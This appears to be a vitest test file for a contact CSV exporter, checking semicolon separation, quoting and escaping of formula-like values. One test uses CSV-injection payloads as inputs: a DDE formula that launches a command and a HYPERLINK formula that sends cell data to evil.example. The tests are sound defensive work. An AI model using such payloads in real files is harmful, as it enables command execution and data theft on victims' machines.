import { describe, expect, test } from 'vitest';
import { expectNoFormulaCell, readCsv } from '../../../tests/csv';
import { contactsCsv } from './contacts-export';

describe('contact CSV export (management.md section 9: semicolon separator; name, number, email)', () => {
  test('one header line and one line per contact, every field quoted, separated by semicolons', () => {
    expect(
      contactsCsv([
        { name: 'Ana', number: '5511999990001', email: 'ana@x.dev' },
        { name: 'Bob', number: '5511999990002', email: null },
      ]),
    ).toBe('"name";"number";"email"\r\n"Ana";"5511999990001";"ana@x.dev"\r\n"Bob";"5511999990002";""\r\n');
  });
  test('values holding a semicolon, a comma, a quote or a line break read back whole', () => {
    const csv = contactsCsv([{ name: 'Silva; Ana "Aninha", SP', number: '1', email: 'two\r\nlines' }]);
    expect(readCsv(csv, ';')[1]).toEqual(['Silva; Ana "Aninha", SP', '1', 'two\r\nlines']);
  });
  test('names written as formulas (= + - @ tab CR first) are text with an apostrophe, read with ; or with ,', () => {
    const csv = contactsCsv([
      { name: "=cmd|' /C calc'!A0", number: '1', email: '' },
      { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', number: '-2', email: '@SUM(1+1)' },
      { name: '\tTab', number: '\r3', email: 'ana@x.dev' },
      { name: '+55 11', number: '5511', email: '' },
      { name: 'Ana = Bob', number: '5511', email: '' },
    ]);
    expectNoFormulaCell(csv);
    expect(readCsv(csv, ';').slice(1)).toEqual([
      ["'=cmd|' /C calc'!A0", '1', ''],
      ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-2", "'@SUM(1+1)"],
      ["'\tTab", "'\r3", 'ana@x.dev'],
      ["'+55 11", '5511', ''],
      ['Ana = Bob', '5511', ''],
    ]);
  });
});
